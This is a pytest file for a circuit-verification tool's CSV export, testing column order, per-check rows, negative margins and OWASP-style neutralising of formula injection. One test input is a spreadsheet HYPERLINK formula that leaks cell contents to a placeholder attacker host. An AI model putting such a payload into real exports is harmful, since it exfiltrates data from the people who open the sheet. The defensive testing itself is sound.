"""CSV output: columns, one row per circuit and check, and formula injection neutralised.

External references: Python's ``csv`` reader (RFC 4180 quoting) reads the
output back; the neutralising rule is OWASP's "CSV Injection" advice — a
cell starting with = + - @ TAB or CR is prefixed with an apostrophe.
"""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest

from api.answers import verify_body
from api.intake.objects import records_from_objects
from api.render import CSV_COLUMNS, neutralise, render
from engine import CheckResult, Outcome, Verdict, load_ruleset, verify

HOSTILE = '=HYPERLINK("http://attacker.invalid/?leak="&A1,"open")'


def rows_of(body: dict[str, Any]) -> list[dict[str, str]]:
    text, media_type = render(body, "csv")
    assert media_type.startswith("text/csv")
    return list(csv.DictReader(io.StringIO(text, newline="")))


def body_of(circuits: list[Any]) -> dict[str, Any]:
    records, bad = records_from_objects(circuits)
    ruleset = load_ruleset(None)
    return verify_body(ruleset, verify(records, ruleset), bad)


def test_header_is_the_documented_column_list() -> None:
    """The first row names exactly the issue's columns, in order."""
    text, _ = render(body_of([]), "csv")
    assert next(csv.reader(io.StringIO(text))) == list(CSV_COLUMNS)
    assert CSV_COLUMNS == ("board", "circuit", "circuit_outcome", "check", "outcome", "value",
                           "relation", "limit", "unit", "margin", "method", "basis", "detail")


def test_one_row_per_circuit_and_check_with_circuit_outcome() -> None:
    """Row count equals the body's check count; the polarity rows carry their outcomes."""
    body = body_of([{"board": "DB1", "circuit": "1", "polarity_ok": True},
                    {"board": "DB1", "circuit": "2", "polarity_ok": False}])
    rows = rows_of(body)
    assert len(rows) == sum(len(v["checks"]) for v in body["verdicts"])
    polarity = {r["circuit"]: r for r in rows if r["check"] == "polarity"}
    assert polarity["1"]["outcome"] == "pass"
    assert (polarity["2"]["outcome"], polarity["2"]["circuit_outcome"]) == ("fail", "fail")
    assert polarity["2"]["basis"].startswith("BS 7671")


def test_board_named_as_a_formula_is_text_in_the_sheet() -> None:
    """A board named '=HYPERLINK(...)' is written with a leading apostrophe (OWASP CSV Injection)."""
    rows = rows_of(body_of([{"board": HOSTILE, "circuit": "@SUM(1+1)", "polarity_ok": False}]))
    assert {r["board"] for r in rows} == {"'" + HOSTILE}
    assert {r["circuit"] for r in rows} == {"'@SUM(1+1)"}


@pytest.mark.parametrize("cell", ["=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "-", "=", "+cmd"])
def test_each_formula_start_is_neutralised(cell: str) -> None:
    """Every start OWASP lists (= + - @ TAB CR) gets the apostrophe."""
    assert neutralise(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["-0.12", "+5", "-1e-3", "0.82", "DB1", "", "1.5e+2", "RCD 30 mA"])
def test_plain_numbers_and_ordinary_text_are_left_alone(cell: str) -> None:
    """A plain number (a negative margin) or ordinary text is written unchanged."""
    assert neutralise(cell) == cell


def test_negative_margin_stays_a_number() -> None:
    """A failing check's negative margin is written as a number, not as apostrophed text."""
    check = CheckResult(check="loop_impedance", outcome=Outcome.FAIL, value=1.6, limit=1.37,
                        limit_kind="max", unit="Ω", detail="above the maximum")
    verdict = Verdict(board="DB1", circuit="3", outcome=Outcome.FAIL, checks=(check,))
    (row,) = rows_of(verify_body(load_ruleset(None), [verdict], []))
    # margin derived from (limit − value) / limit for an upper limit: (1.37 − 1.6) / 1.37
    assert float(row["margin"]) == pytest.approx((1.37 - 1.6) / 1.37, abs=1e-4)
    assert row["margin"].startswith("-")
    assert (row["value"], row["relation"], row["limit"]) == ("1.6", "'=", "1.37")


def test_circuit_without_checks_keeps_a_row() -> None:
    """A verdict with no check still appears, with empty check columns."""
    verdict = Verdict(board="DB9", circuit="1", outcome=Outcome.INCOMPLETE, checks=())
    (row,) = rows_of(verify_body(load_ruleset(None), [verdict], []))
    assert (row["board"], row["circuit_outcome"], row["check"]) == ("DB9", "incomplete", "")
